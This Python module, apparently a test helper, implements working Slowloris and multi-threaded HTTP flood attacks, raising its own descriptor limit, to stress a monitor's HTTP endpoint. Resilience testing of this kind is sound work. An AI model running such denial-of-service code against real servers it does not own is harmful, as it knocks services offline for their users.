"""Who means harm to the monitor's HTTP: floods, and sockets that say little.

    with Slowloris(where, 5000) as attack:
        attack.until_all_came()
        …
"""
import contextlib
import http.client
import resource
import selectors
import socket
import threading
import time

from tree import until

SPARE = 300


def descriptors_for(count):
    """Raises our own limit; how many of `count` sockets we may have."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = count + SPARE
    if soft < wanted:
        limit = wanted if hard == resource.RLIM_INFINITY else min(wanted, hard)
        resource.setrlimit(resource.RLIMIT_NOFILE, (limit, hard))
        soft = limit
    return min(count, soft - SPARE)


class Attack:
    """Something that goes on in threads until the block is left."""

    def __init__(self, threads):
        self.is_over = threading.Event()
        self.threads = [threading.Thread(target=self.run, daemon=True)
                        for _ in range(threads)]

    def __enter__(self):
        for thread in self.threads:
            thread.start()
        return self

    def __exit__(self, *_):
        self.is_over.set()
        for thread in self.threads:
            thread.join(30)


class Slowloris(Attack):
    """`count` sockets, each a head of which a byte comes now and then; one
    that is closed is replaced by another."""

    def __init__(self, where, count):
        super().__init__(1)
        self.where = where
        self.count = descriptors_for(count)
        self.came = 0  # connections made, replaced ones included

    def knock(self, selector):
        s = socket.socket()
        s.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            s.connect(self.where)
        selector.register(s, selectors.EVENT_WRITE, bytearray(
            b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-A: "))

    def drip(self, selector, key):
        """The first bytes at once, then one for each look."""
        try:
            sent = key.fileobj.send(bytes(key.data) or b"a")
            if key.data:
                self.came += 1
                del key.data[:sent]
            selector.modify(key.fileobj, selectors.EVENT_READ, key.data)
        except BlockingIOError:
            pass
        except OSError:
            self.drop(selector, key.fileobj)

    @staticmethod
    def drop(selector, s):
        selector.unregister(s)
        s.close()

    def look(self, selector):
        for key, events in selector.select(0.05):
            if events & selectors.EVENT_WRITE:
                self.drip(selector, key)
            else:  # the other side has closed, or answered
                self.drop(selector, key.fileobj)

    def run(self):
        with selectors.DefaultSelector() as selector:
            dripped = time.monotonic()
            while not self.is_over.is_set():
                for _ in range(min(200, self.count - len(
                        selector.get_map()))):
                    self.knock(selector)
                self.look(selector)
                if time.monotonic() - dripped > 1:
                    dripped = time.monotonic()
                    for key in list(selector.get_map().values()):
                        if key.events == selectors.EVENT_READ:
                            self.drip(selector, key)
            for key in list(selector.get_map().values()):
                self.drop(selector, key.fileobj)

    def until_all_came(self):
        until(lambda: self.came >= self.count, 60,
              f"{self.count} sockets have come")


class Flood(Attack):
    """Requests one after the other, from several sides."""

    def __init__(self, where, paths, threads=32):
        super().__init__(threads)
        self.where, self.paths = where, paths
        self.lock = threading.Lock()
        self.statuses = {}

    def ask(self, path):
        connection = http.client.HTTPConnection(*self.where, timeout=30)
        try:
            connection.request("GET", path)
            answer = connection.getresponse()
            answer.read()
            return answer.status
        except (OSError, http.client.HTTPException):
            return None  # whoever served it was killed
        finally:
            connection.close()

    def run(self):
        n = 0
        while not self.is_over.is_set():
            status = self.ask(self.paths[n % len(self.paths)])
            n += 1
            with self.lock:
                self.statuses[status] = self.statuses.get(status, 0) + 1

    def until_answered(self, count):
        until(lambda: self.statuses.get(200, 0) >= count, 60,
              f"{count} answers: {self.statuses}")
